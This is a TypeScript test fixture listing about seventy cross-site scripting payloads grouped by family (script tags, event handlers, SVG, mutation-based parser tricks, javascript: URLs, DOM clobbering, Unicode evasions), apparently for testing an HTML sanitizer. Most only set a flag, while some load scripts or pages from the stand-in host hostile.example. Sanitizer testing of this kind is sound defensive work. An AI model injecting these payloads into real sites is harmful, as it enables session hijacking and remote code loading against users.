/* Markup that sets `hostile` (policy-watch.ts), requests a foreign host or opens a dialog if trusted. */
const RUN = 'hostile=1'
const JS = 'javascript:hostile=1'
const HOST = 'https://hostile.example'

const families: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${HOST}/a.js></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script/x>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
    `<script type=module>${RUN}</script>`,
  ],
  handlers: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}"//`,
    `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
    `<body onload=${RUN}>`,
    `<details open ontoggle=${RUN}>d</details>`,
    `<input autofocus onfocus=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<marquee onstart=${RUN}>m</marquee>`,
    `<p onanimationstart=${RUN} style="animation:spin 1s">a</p>`,
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${RUN}>c</p>`,
    `<a href=# onpointerenter=${RUN} onclick=${RUN}>hover</a>`,
    `<img src=x onerror\u0000=${RUN}>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x oNeRrOr&#61;${RUN} onerror\n=\n${RUN}>`,
  ],
  svg: [
    `<svg onload=${RUN}></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="${JS}"><text y=20>t</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${RUN} /></svg>#x"></svg>`,
    `<svg><set attributeName=href to="${JS}"></svg>`,
    `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`,
  ],
  mutation: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<noscript><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${RUN}></style></annotation-xml></math>`,
    `<select><template><style></select><img src=x onerror=${RUN}></style></template></select>`,
    `<a title="</p><img src=x onerror=${RUN}>">a</a>`,
    `<textarea></textarea\u00a0><img src=x onerror=${RUN}></textarea>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  ],
  addresses: [
    `<a href="${JS}">a</a>`,
    `<a href="java\tscript:${RUN}">a</a>`,
    `<a href="java&#10;script&colon;${RUN}">a</a>`,
    `<a href="&#x6A;&#97;vascript:${RUN}">a</a>`,
    `<a href="\u0001javascript:${RUN}">a</a>`,
    `<a href="JaVaScRiPt:${RUN}">a</a>`,
    `<a href="vbscript:${RUN}">a</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">a</a>`,
    `<img src="${JS}">`,
    `<img srcset="${HOST}/a.png 1x, ${HOST}/b.png 2x" alt=s>`,
    `<img lowsrc="${JS}" dynsrc="${JS}" alt=l>`,
  ],
  styles: [
    `<style>@import '${HOST}/a.css'; p { background: url(${HOST}/a.png) }</style>`,
    `<p style="background:url(${HOST}/b.png)">s</p>`,
    `<link rel=stylesheet href=${HOST}/a.css>`,
    `<p style="width:expression(${RUN})">e</p>`,
    `<div style="position:fixed;inset:0;z-index:9999">over all</div>`,
  ],
  frames: [
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="${JS}"></iframe>`,
    `<object data="${JS}"></object>`,
    `<embed src="${HOST}/a.swf">`,
    `<template><img src=x onerror=${RUN}></template>`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
    `<portal src=${HOST}></portal>`,
  ],
  documents: [
    `<base href="${HOST}/">`,
    `<meta http-equiv=refresh content="0;url=${HOST}/">`,
    `<meta http-equiv=content-security-policy content="default-src *">`,
    `<form action="${HOST}"><button formaction="${JS}">b</button></form>`,
    `<isindex type=image src=1 onerror=${RUN}>`,
  ],
  clobbering: [
    '<img name=getElementById><img name=body><img name=cookie>',
    '<form id=location><input name=href><input name=assign></form>',
    '<a id=config href=x></a><a id=config name=apiOrigin href=x></a>',
    '<form><input name=attributes><input name=parentNode></form>',
    '<img id=__proto__ name=firstScreen>',
  ],
  unicode: [
    `\u202e<img src=x onerror=${RUN}>\u202c`,
    `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
    `<ſcript>${RUN}</ſcript>`,
    `<img src=x onerror=${RUN}\u2028>`,
    `\ufeff<\u200bscript>${RUN}</script>`,
  ],
}

export const payloads: readonly { readonly family: string; readonly html: string }[] = Object.entries(
  families,
).flatMap(([family, all]) => all.map((html) => ({ family, html })))

/** Visible text in front of a payload. */
export const wordsOf = (index: number): string => `Words before ${index}.`

/** Untrusted text with a payload. */
export const textWith = (index: number): string => `<p>${wordsOf(index)}</p>${payloads[index]?.html}`
